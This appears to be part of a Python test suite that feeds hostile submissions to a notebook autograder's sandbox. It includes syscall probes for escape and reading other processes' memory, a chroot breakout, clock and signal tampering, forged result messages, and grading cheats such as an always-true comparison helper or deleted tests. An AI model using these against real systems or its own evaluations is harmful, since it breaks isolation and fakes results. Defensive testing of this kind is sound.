        "x32 calls": "import ctypes\nprint(ctypes.CDLL(None).syscall(0x40000000 + 101, 16, 1, 0, 0))",
        "io_uring": "import ctypes\nprint(ctypes.CDLL(None).syscall(425, 8, bytes(120)))",
        "bpf and userfaultfd": "import ctypes\nc = ctypes.CDLL(None)\nprint(c.syscall(321, 0, 0, 0), c.syscall(323, 0), c.syscall(298, 0, 0, 0, 0, 0))",
        "keys": "import ctypes\nc = ctypes.CDLL(None)\nprint(c.syscall(250, 0, -3, 1), c.syscall(248, b'user', b'x', b'y', 1, -5))",
        "handles of other processes": "import ctypes\nc = ctypes.CDLL(None)\nfor p in range(1, 50):\n    h = c.syscall(434, p, 0)\n    if h >= 0: print([c.syscall(438, h, n, 0) for n in range(6)])",
        "memory of other processes": "import ctypes\nb = ctypes.create_string_buffer(64)\nv = (ctypes.c_size_t * 2)(ctypes.addressof(b), 64)\nprint([ctypes.CDLL(None).process_vm_readv(p, v, 1, (ctypes.c_size_t * 2)(0x400000, 64), 1, 0) for p in range(1, 50)])",
        "handle of a file by number": "import ctypes\nprint(ctypes.CDLL(None).syscall(304, -100, bytes(16), 0))",
        "clone3": "import ctypes\nprint(ctypes.CDLL(None).syscall(435, bytes(88), 88))",
        "chroot and dots": "import os\ntry:\n    os.mkdir('/tmp/j')\n    os.chroot('/tmp/j')\n    os.chdir('../../../../..')\n    print(os.listdir('.'))\nexcept OSError as e: print(e)",
        "device numbers": "import os\ntry: os.mknod('/tmp/sda', 0o60600, os.makedev(8, 0))\nexcept OSError as e: print(e)",
        "personality": "import ctypes\nprint(ctypes.CDLL(None).personality(0x0040000))",
        "the clock": "import time\ntry: time.clock_settime(time.CLOCK_REALTIME, 0)\nexcept OSError as e: print(e)",
        "the host's name": "import socket\ntry: socket.sethostname('x')\nexcept OSError as e: print(e)",
        "handles sent to the other side": "import socket, os\ntry: socket.send_fds(socket.socket(fileno=os.dup(3)), [b'x'], [0])\nexcept OSError as e: print(e)",
    },
    "timing": {
        "answers by the clock": _everywhere("import time\nreturn {'flops': time.time_ns(), 'bound': 'x'}"),
        "test's limit by small steps": _everywhere("import time\nfor _ in range(100): time.sleep(0.02)\nreturn -1"),
        "stopped and continued": "import os, signal\nif os.fork() == 0:\n    import time\n    for _ in range(20):\n        time.sleep(0.1)\n        try: os.kill(os.getppid(), signal.SIGSTOP)\n        except OSError: break\n    os._exit(0)",
        "timer of its own": "import signal\nsignal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(SystemExit))\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
        "race on the channel": "import threading, json, struct, os\nh = json.dumps({'ok': ['d', ['flops', 'bound'], [14, 'memory']], 'out': ''}).encode()\ndef spam():\n    while True: os.write(3, struct.pack('!4sIH', b'WBG1', len(h), 0) + h)\nthreading.Thread(target=spam, daemon=True).start()",
        "clock": "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0",
        "answer after the deadline": "import time\ndef softmax(x):\n    time.sleep(3)\n    return torch.softmax(x, -1)\ndef flops(n): return -1",
        "alarm cancelled": "import signal\nsignal.setitimer(signal.ITIMER_REAL, 0)\nsignal.alarm(0)\nwhile True: pass",
        "slow answers": _everywhere("import time\ntime.sleep(1.5)\nreturn -1"),
    },
}  # fmt: skip

_WRONG_CELL = Cell(WRONG)
_TEST = PROBLEM.tests[0].grade_id
METADATA = {
    "tests of their own": (_WRONG_CELL, *(Cell("pass", t.grade_id, "test") for t in PROBLEM.tests)),
    "tests deleted": (_WRONG_CELL,),
    "tests twice": (_WRONG_CELL, *(Cell("pass", t.grade_id, "test") for t in PROBLEM.tests * 2)),
    "tests reversed": (_WRONG_CELL, *(Cell("", t.grade_id, "test") for t in PROBLEM.tests[::-1])),
    "tests before the answers": (
        *(Cell("", t.grade_id, "test") for t in PROBLEM.tests),
        _WRONG_CELL,
    ),
    "tests as markdown": (_WRONG_CELL, *(Cell("", t.grade_id, "markdown") for t in PROBLEM.tests)),
    "answer as a test": (Cell(WRONG, _TEST, "student"),),
    "helper of their own": (Cell("def near(a, b): return True", "helper", "locked"), _WRONG_CELL),
    "unknown locked cell": (Cell("def near(a, b): return True", "extra", "locked"), _WRONG_CELL),
    "id with markup": (Cell(WRONG, "<script>", "student"),),
    "nothing at all": (Cell(""),),
    "not Python": (Cell("}{ \x00 \ud800"), _WRONG_CELL),
    "a million brackets": (Cell("(" * 1_000_000), _WRONG_CELL),
    "many cells": (*(Cell(f"x{n} = {n}") for n in range(500)), _WRONG_CELL),
}
ATTACKS = [
    *(Attack(f, n, c, f.startswith("IPython")) for f, rows in FAMILIES.items() for n, c in rows.items()),
    *(Attack("metadata", name, "", cells=cells) for name, cells in METADATA.items()),
]  # fmt: skip
